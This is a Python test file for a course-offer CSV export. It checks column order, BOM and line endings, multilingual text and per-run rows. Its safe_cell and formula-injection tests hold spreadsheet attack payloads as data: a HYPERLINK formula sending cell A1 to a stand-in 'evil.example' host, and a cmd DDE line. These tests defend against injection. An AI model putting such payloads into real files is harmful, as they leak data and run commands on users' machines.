"""The CSV export: what a student's spreadsheet program reads, one row per offered run."""

from __future__ import annotations

import copy
import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from catalog.derive.subjects import load_subjects
from catalog.present.export_csv import BOM, COLUMNS, safe_cell, write_csv
from catalog.present.export_csv import rows as offer_rows
from tests.support.documents import document, documents

ICT = load_subjects().entries(["Computer Science"])
EDU = load_subjects().entries(["Giáo dục"])


def offer(run: str | None, audience: str = "tsinghua", **changes: Any) -> dict[str, Any]:
    base = {
        "audience": audience,
        "run": run,
        "rule": "vnu-to-tsinghua",
        "term": "2025-2026 HK1",
        "application_start": "2025-08-01T00:00:00+07:00",
        "application_end": "2025-08-31T23:59:59+07:00",
        "open_now": True,
        "seats": 30,
        "notes": None,
        "credits": {
            "host": 3.0,
            "host_system": "tin_chi",
            "home": 2.5,
            "home_system": "xuefen",
            "source": "computed",
        },
        "equivalence": {
            "status": "approved",
            "home_course": "THU-CS101",
            "valid_terms": ["2025-2026 HK1"],
        },
    }
    return {**base, **changes}


def run(key: str, start: str = "2025-09-08T01:00:00+00:00") -> dict[str, Any]:
    return {
        "key": key,
        "start": start,
        "end": "2025-12-20T10:00:00+00:00",
        "enrollment_start": "2025-08-01T00:00:00+00:00",
        "enrollment_end": "2025-09-15T00:00:00+00:00",
        "pacing": "instructor",
    }


def course(**changes: Any) -> dict[str, Any]:
    runs = [run("course-v1:UETx+INT1001+2025_T2"), run("course-v1:UETx+INT1001+2026_T1")]
    base = {
        "id": "vnu-openedx:UETx+INT1001",
        "institution": "vnu",
        "feed": "vnu-openedx",
        "key": "UETx+INT1001",
        "title": "Nhập môn Trí tuệ nhân tạo",
        "language": "vi",
        "short_description": "Tác tử, tìm kiếm, học máy.",
        "description": "<p>HTML</p>",
        "url": "https://courses.vnu.edu.vn/courses/course-v1:UETx+INT1001+2025_T2/about",
        "image_url": None,
        "organization": "UETx",
        "subjects": ["Computer Science"],
        "subjects_isced": ICT,
        "level": "Introductory",
        "effort": "4 giờ/tuần",
        "pacing": "instructor",
        "status": "active",
        "is_free": True,
        "certificate": False,
        "runs": runs,
        "offers": [offer(runs[0]["key"])],
        "first_seen": "2026-11-25T03:28:23+00:00",
        "updated_at": "2026-11-25T03:28:23+00:00",
    }
    return {**base, **changes}


def written(path: Path, courses: list[dict[str, Any]], audience: str = "tsinghua", **kw) -> int:
    """The CSV the export writes for ``audience``, in the reading language its institution's
    config entry gives (the example config's: Vietnamese for VNU, Chinese for Tsinghua)."""
    kw.setdefault("language", {"vnu": "vi", "tsinghua": "zh"}.get(audience, "en"))
    with path.open("w", encoding="utf-8", newline="") as out:
        return write_csv(out, documents(courses), audience=audience, **kw)


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_a_spreadsheet_reads_the_columns_in_the_documented_order(tmp_path: Path) -> None:
    path = tmp_path / "offers.csv"
    assert written(path, [course()]) == 1
    with path.open(encoding="utf-8-sig", newline="") as f:
        header = next(csv.reader(f))
    assert tuple(header) == COLUMNS
    assert COLUMNS[:3] == ("course_id", "institution", "title")
    # The columns before this release's end with url, whole_course (positions 26, 27): they keep
    # their positions, and the new ones come after them.
    assert COLUMNS[26:28] == ("url", "whole_course"), "new columns go last: positions stay"
    assert COLUMNS[28:] == (
        "run_url", "run_availability", "price", "currency", "payment_frequency",
        "course_credits", "mode", "source_modified", "expires",
    )  # fmt: skip


def test_the_values_of_one_offered_run(tmp_path: Path) -> None:
    path = tmp_path / "offers.csv"
    written(path, [course()])
    [row] = read_rows(path)
    assert row == {
        "course_id": "vnu-openedx:UETx+INT1001",
        "institution": "vnu",
        "title": "Nhập môn Trí tuệ nhân tạo",
        "language": "vi",
        "organization": "UETx",
        "subjects": "信息与通信技术",  # the audience is Tsinghua: Chinese labels
        "level": "Introductory",
        "pacing": "instructor",
        "run_key": "course-v1:UETx+INT1001+2025_T2",
        "start": "2025-09-08T01:00:00+00:00",
        "end": "2025-12-20T10:00:00+00:00",
        "enrollment_start": "2025-08-01T00:00:00+00:00",
        "enrollment_end": "2025-09-15T00:00:00+00:00",
        "term": "2025-2026 HK1",
        "application_start": "2025-08-01T00:00:00+07:00",
        "application_end": "2025-08-31T23:59:59+07:00",
        "open_now": "yes",
        "seats": "30",
        "host_credits": "3",
        "host_credit_system": "tin_chi",
        "home_credits": "2.5",
        "home_credit_system": "xuefen",
        "equivalence_status": "approved",
        "equivalence_home_course": "THU-CS101",
        "free": "yes",
        "certificate": "no",
        "url": "https://courses.vnu.edu.vn/courses/course-v1:UETx+INT1001+2025_T2/about",
        "whole_course": "no",
        # the source gives neither a run page nor a price here, nor the course's facts
        "run_url": "",
        "run_availability": "",
        "price": "",
        "currency": "",
        "payment_frequency": "",
        "course_credits": "",
        "mode": "",
        "source_modified": "",
        "expires": "",
    }


def test_the_file_starts_with_the_utf8_bom_and_ends_rows_with_crlf(tmp_path: Path) -> None:
    path = tmp_path / "offers.csv"
    written(path, [course()])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfcourse_id,institution,title,")
    assert not data.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2 and b"\r\r\n" not in data


def test_a_stream_opened_with_utf8_sig_gets_exactly_one_bom(tmp_path: Path) -> None:
    path = tmp_path / "offers.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as out:
        write_csv(out, documents([course()]), audience="tsinghua")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfcourse_id")
    assert data.count(b"\xef\xbb\xbf") == 1


def test_a_stream_in_another_encoding_is_refused(tmp_path: Path) -> None:
    with (
        (tmp_path / "x.csv").open("w", encoding="cp1252", newline="") as out,
        pytest.raises(ValueError, match="cp1252"),
    ):
        write_csv(out, documents([course()]), audience="tsinghua")


def test_a_text_buffer_gets_the_bom_as_its_first_character() -> None:
    out = io.StringIO(newline="")
    write_csv(out, [], audience="vnu")
    assert out.getvalue() == BOM + ",".join(COLUMNS) + "\r\n"


def test_vietnamese_and_chinese_text_round_trips(tmp_path: Path) -> None:
    tsinghua = course(
        id="thu-xuetangx:THU08091000",
        institution="tsinghua",
        title='人工智能原理与应用, 第2版 "精品"',
        language="zh",
        organization="清华大学",
        subjects_isced=ICT + EDU,
        runs=[run("THU08091000-2025秋")],
        offers=[offer("THU08091000-2025秋", audience="vnu", term="2025-2026 秋季学期")],
    )
    path = tmp_path / "for-vnu.csv"
    written(path, [tsinghua], audience="vnu")
    [row] = read_rows(path)
    assert row["title"] == '人工智能原理与应用, 第2版 "精品"'
    assert row["organization"] == "清华大学"
    assert row["term"] == "2025-2026 秋季学期"
    assert row["run_key"] == "THU08091000-2025秋"
    # The audience is VNU: Vietnamese labels, "; " between them.
    assert row["subjects"] == "Công nghệ thông tin và truyền thông; Giáo dục"

    path = tmp_path / "for-tsinghua.csv"
    written(path, [course(title="Giáo dục học đại cương — Đợt 1\nHọc kỳ I")])
    assert read_rows(path)[0]["title"] == "Giáo dục học đại cương — Đợt 1\nHọc kỳ I"


def test_the_subject_language_can_be_chosen(tmp_path: Path) -> None:
    path = tmp_path / "offers.csv"
    written(path, [course()], language="en")
    assert read_rows(path)[0]["subjects"] == "Information and Communication Technologies"


def test_an_unknown_audience_gets_english_labels(tmp_path: Path) -> None:
    c = course(offers=[offer("course-v1:UETx+INT1001+2025_T2", audience="kit")])
    path = tmp_path / "offers.csv"
    written(path, [c], audience="kit")
    assert read_rows(path)[0]["subjects"] == "Information and Communication Technologies"


def test_source_subjects_are_labelled_as_the_default_mapping_decides_at_ingest(
    engine, tmp_path: Path
) -> None:
    """A course harvested with a Chinese and a Vietnamese category gets both ISCED fields from
    the shipped mapping, stored at ingest, and the CSV names them in the reading language."""
    from catalog.derive.exchange import ExchangeSettings, Rule, Term
    from catalog.present.documents import course_documents
    from catalog.store import harvests
    from catalog.store.db import read_only
    from catalog.store.ingest import Ingestor
    from catalog.store.offers import rebuild
    from connectors.records import CourseRecord, Page

    harvests.register(
        engine,
        [harvests.InstitutionInfo("tsinghua", {"zh": "清华大学"}, "CN", "Asia/Shanghai")],
        [],
    )
    record = CourseRecord(key="UETx+INT1001", title="Nhập môn", subjects=("计算机", "Giáo dục"))
    Ingestor(engine, "vnu", harvests.start_run(engine, "vnu")).apply(
        Page(items=(record,), cursor=None, url="https://x/p1", number=1, last=True)
    )
    term = Term("2026 HK2", datetime(2026, 2, 1).date(), datetime(2026, 3, 1).date(), 25)
    rule = Rule(id="all", offering="vnu", audience="tsinghua", terms=(term,))
    rebuild(engine, ExchangeSettings(rules=(rule,)), now=datetime(2026, 1, 10, tzinfo=UTC))
    path = tmp_path / "offers.csv"
    with read_only(engine) as conn, path.open("w", encoding="utf-8", newline="") as out:
        docs = course_documents(conn, audience="tsinghua", include_withdrawn=False)
        assert write_csv(out, docs, audience="tsinghua", language="vi") == 1
    assert read_rows(path)[0]["subjects"] == "Công nghệ thông tin và truyền thông; Giáo dục"


def test_one_row_per_run_and_offer(tmp_path: Path) -> None:
    runs = course()["runs"]
    c = course(
        offers=[
            offer(runs[0]["key"], term="2025-2026 HK1"),
            offer(runs[1]["key"], term="2025-2026 HK2", open_now=False, seats=None),
            offer(runs[0]["key"], audience="vnu"),  # another audience: not in this file
        ]
    )
    other = course(id="vnu-openedx:UETx+MAT1041", title="Giải tích 1", offers=[])
    path = tmp_path / "offers.csv"
    assert written(path, [c, other]) == 2
    rows = read_rows(path)
    assert [(r["run_key"], r["term"]) for r in rows] == [
        ("course-v1:UETx+INT1001+2025_T2", "2025-2026 HK1"),
        ("course-v1:UETx+INT1001+2026_T1", "2025-2026 HK2"),
    ]
    assert [r["start"] for r in rows] == [runs[0]["start"], runs[1]["start"]]
    assert rows[1]["open_now"] == "no" and rows[1]["seats"] == ""


def test_a_course_without_runs_offered_as_a_whole_is_one_row_without_run_cells(
    tmp_path: Path,
) -> None:
    whole = offer(None, whole_course=True, term="2025-2026 HK2", seats=40)
    oai = course(id="hou-oai:oai:hou.edu.vn:mooc/PHY1001", runs=[], offers=[whole])
    path = tmp_path / "offers.csv"
    assert written(path, [oai, course()]) == 2
    first, second = read_rows(path)
    assert first["whole_course"] == "yes" and second["whole_course"] == "no"
    for name in ("run_key", "start", "end", "enrollment_start", "enrollment_end"):
        assert first[name] == "", name
    assert (first["term"], first["seats"], first["open_now"]) == ("2025-2026 HK2", "40", "yes")
    assert first["pacing"] == "instructor", "the course's own"
    older = offer(None)  # a document from before whole_course: no run means the whole course
    [old_row] = offer_rows(
        document(course(runs=[], offers=[older])), audience="tsinghua", language="vi"
    )
    assert old_row["whole_course"] == "yes"


def test_unknown_values_are_empty_cells(tmp_path: Path) -> None:
    c = course(
        level=None,
        organization=None,
        is_free=None,
        certificate=None,
        url=None,
        subjects_isced=[],
        offers=[offer("no-such-run", credits=None, equivalence=None, application_start=None)],
    )
    path = tmp_path / "offers.csv"
    written(path, [c])
    [row] = read_rows(path)
    for name in (
        "level", "organization", "free", "certificate", "url", "subjects", "start", "end",
        "host_credits", "home_credit_system", "equivalence_status", "application_start",
    ):  # fmt: skip
        assert row[name] == "", name
    assert row["run_key"] == "no-such-run"
    assert row["pacing"] == "instructor"  # the course's, when the run is unknown


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")', id="eq"),
        pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="plus"),
        pytest.param("-2+3", "'-2+3", id="minus"),
        pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("＝1+1", "'＝1+1", id="full-width-eq"),
        pytest.param("a=1", "a=1", id="inside-is-fine"),
        pytest.param("Giáo dục", "Giáo dục", id="plain"),
        pytest.param("bad\x00nul\x1bctl", "badnulctl", id="control-characters"),
    ],
)
def test_safe_cell(value: str, cell: str) -> None:
    assert safe_cell(value) == cell


def test_formula_injection_is_defused_in_every_text_column(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    c = course(
        title=evil,
        organization="+cmd",
        level="@x",
        offers=[offer("course-v1:UETx+INT1001+2025_T2", term="-1", seats=30)],
    )
    path = tmp_path / "offers.csv"
    written(path, [c])
    raw = path.read_bytes().decode("utf-8-sig")
    assert ',"=HYPERLINK' not in raw and "\n=" not in raw
    [row] = read_rows(path)
    assert row["title"] == "'" + evil
    assert row["organization"] == "'+cmd"
    assert row["level"] == "'@x"
    assert row["term"] == "'-1"
    assert row["seats"] == "30"


def test_rows_are_streamed_not_collected() -> None:
    """Each course is written before the next one is even read."""
    seen: list[int] = []
    out = io.StringIO(newline="")

    def courses():
        for n in range(3):
            c = copy.deepcopy(course(id=f"f:{n}"))
            seen.append(out.getvalue().count("\r\n"))  # lines written before course n
            yield c

    assert write_csv(out, documents(courses()), audience="tsinghua") == 3
    assert seen == [1, 2, 3]
